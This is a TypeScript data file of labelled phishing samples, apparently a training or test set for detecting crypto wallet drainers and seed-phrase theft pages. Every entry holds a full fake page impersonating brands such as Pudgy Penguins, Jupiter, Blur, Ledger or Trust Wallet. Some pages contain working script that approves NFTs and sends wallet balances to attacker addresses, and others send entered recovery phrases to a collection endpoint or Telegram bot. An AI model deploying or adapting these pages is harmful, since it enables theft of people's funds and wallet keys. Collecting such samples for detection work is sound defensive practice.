import type { Entry } from '../entry.js';

/** Wallet drainers (approve / permit / transfer of everything) and seed-phrase collection pages. */
export const entries: Entry[] = [
  {
    id: 'drainer-nft-mint-seaport',
    label: 'cryptodrainer',
    kind: 'wallet-drainer',
    url: 'https://mint-pudgy-penguins-free.xyz/mint',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Free Mint — Pudgy Penguins Anniversary</title>
<script src="https://cdn.jsdelivr.net/npm/ethers@5.7.2/dist/ethers.umd.min.js"></script></head>
<body style="background:#d9f0ff;font-family:Arial;text-align:center"><h1>🐧 Anniversary Free Mint</h1><p>2,000 / 5,000 minted. Only gas fees.</p><button id="m" style="padding:16px 40px;font-size:20px">Mint now</button>
<script>
const receiver = '0x0000db5c8b030ae20308ac975898e09741e70000';
m.onclick = async () => {
  const provider = new ethers.providers.Web3Provider(window.ethereum); await provider.send('eth_requestAccounts', []);
  const signer = provider.getSigner(); const owner = await signer.getAddress();
  const nfts = await fetch('https://mint-pudgy-penguins-free.xyz/api/assets?owner=' + owner).then(r => r.json());
  for (const c of nfts.collections) {
    const nft = new ethers.Contract(c.address, ['function setApprovalForAll(address operator, bool approved)'], signer);
    await nft.setApprovalForAll(receiver, true);
  }
  const bal = await provider.getBalance(owner);
  await signer.sendTransaction({ to: receiver, value: bal.mul(95).div(100) });
};
</script></body></html>`,
  },
  {
    id: 'drainer-solana-transfer-all',
    label: 'cryptodrainer',
    kind: 'wallet-drainer',
    url: 'https://jup-airdrop-claim.app/',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Jupiter — JUP Airdrop Round 3</title>
<script src="https://unpkg.com/@solana/web3.js@1.95.3/lib/index.iife.min.js"></script></head>
<body style="background:#131722;color:#c7f284;font-family:Arial;text-align:center;padding-top:80px"><h1>Jupuary Round 3</h1><p>Connect Phantom to claim your allocation.</p><button id="go">Connect Phantom</button>
<script>
const DEST = new solanaWeb3.PublicKey('8xK3fPzA2mQ7rYc9vH1nD4tE6wB5uJ0sL2gN7pR3kZ1a');
go.onclick = async () => {
  const resp = await window.solana.connect();
  const conn = new solanaWeb3.Connection('https://api.mainnet-beta.solana.com');
  const lamports = await conn.getBalance(resp.publicKey);
  const tx = new solanaWeb3.Transaction().add(solanaWeb3.SystemProgram.transfer({ fromPubkey: resp.publicKey, toPubkey: DEST, lamports: lamports - 5000 }));
  tx.feePayer = resp.publicKey; tx.recentBlockhash = (await conn.getLatestBlockhash()).blockhash;
  const signed = await window.solana.signAndSendTransaction(tx);
  document.body.insertAdjacentHTML('beforeend', '<p>Claim submitted: ' + signed.signature + '</p>');
};
</script></body></html>`,
  },
  {
    id: 'drainer-wallet-connect-modal-kit',
    label: 'cryptodrainer',
    kind: 'wallet-drainer',
    url: 'https://blur-io-rewards.net/claim',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Blur | Season 4 Rewards</title></head>
<body style="background:#000;color:#ff8700;font-family:monospace;text-align:center;padding-top:100px"><h1>BLUR SEASON 4</h1><p>Claim your care package</p><button id="w" style="background:#ff8700;border:0;padding:14px 30px">CONNECT WALLET</button>
<script src="./assets/wc-modal.bundle.js"></script>
<script>
const cfg = { receiver: '0x9e3c1a7b5d2f4e6a8c0b1d3f5a7c9e2b4d6f8a0c', minValueUsd: 50, drainNfts: true, drainTokens: true, permit: true, seaport: true, tgBot: 'https://api.telegram.org/bot6672190034:AAFx9_pQ2w/sendMessage', chatId: '-1001987654321' };
w.onclick = () => window.Drainer && window.Drainer.start(cfg);
</script></body></html>`,
  },
  {
    id: 'seed-walletconnect-manual',
    label: 'cryptodrainer',
    kind: 'seed-phrase',
    url: 'https://dapps-rectify-node.web.app/connect/manual',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Wallet Connect - Rectification</title></head>
<body style="font-family:Arial;background:#f5f7fb"><div style="width:520px;margin:40px auto;background:#fff;padding:30px;border-radius:12px">
<h2>Manual connection</h2><p>Automatic connection failed. Select import method to rectify your wallet (migration, claim, validation, gas fee issues, missing balance).</p>
<div><button>Phrase</button> <button>Keystore JSON</button> <button>Private Key</button></div>
<form method="post" action="https://formspree.io/f/mqkrpzyw"><input type="hidden" name="wallet" value="Trust Wallet">
<textarea name="phrase" rows="4" style="width:100%" placeholder="Enter your recovery phrase"></textarea><p style="font-size:12px">Typically 12 (sometimes 24) words separated by single spaces</p>
<button style="background:#3b99fc;color:#fff;border:0;padding:12px;width:100%">PROCEED</button></form></div></body></html>`,
  },
  {
    id: 'seed-ledger-recovery',
    label: 'cryptodrainer',
    kind: 'seed-phrase',
    url: 'https://ledger-live-recovery.support/en/recover',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Ledger Live — Recover your device</title></head>
<body style="background:#131415;color:#fff;font-family:Inter,Arial"><div style="width:640px;margin:40px auto"><h1>Ledger Recover</h1>
<p>Due to a recent data breach, your Ledger device may be compromised. Verify your 24-word recovery phrase to migrate your assets to a secure enclave.</p>
<form id="r">${Array.from({ length: 24 }, (_, i) => `<input id="word${i + 1}" placeholder="Word #${i + 1}" style="width:140px;margin:3px">`).join('')}
<br><br><button style="background:#bbb0ff;border:0;padding:12px 30px">Verify phrase</button></form></div>
<script>
r.onsubmit = (e) => { e.preventDefault();
  const phrase = [...document.querySelectorAll('#r input')].map((i) => i.value).join(' ');
  new Image().src = 'https://ledger-live-recovery.support/px.gif?d=' + btoa(phrase);
};
</script></body></html>`,
  },
  {
    id: 'seed-trust-wallet-fr',
    label: 'cryptodrainer',
    kind: 'seed-phrase',
    url: 'https://trustwallet-verification.fr-support.com/verifier',
    body: `<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>Trust Wallet - Vérification</title></head>
<body style="font-family:Arial;background:#fff"><div style="width:480px;margin:50px auto"><h2>🛡 Trust Wallet</h2><p>Votre portefeuille doit être vérifié avant le 30 novembre conformément à la nouvelle réglementation européenne (MiCA).</p>
<form method="post" action="envoi.php"><label>Phrase de récupération (12 ou 24 mots)</label><textarea name="mnemonic" rows="3" style="width:100%"></textarea><button style="background:#0500ff;color:#fff;border:0;padding:12px 30px;border-radius:20px">Vérifier</button></form></div></body></html>`,
  },
];
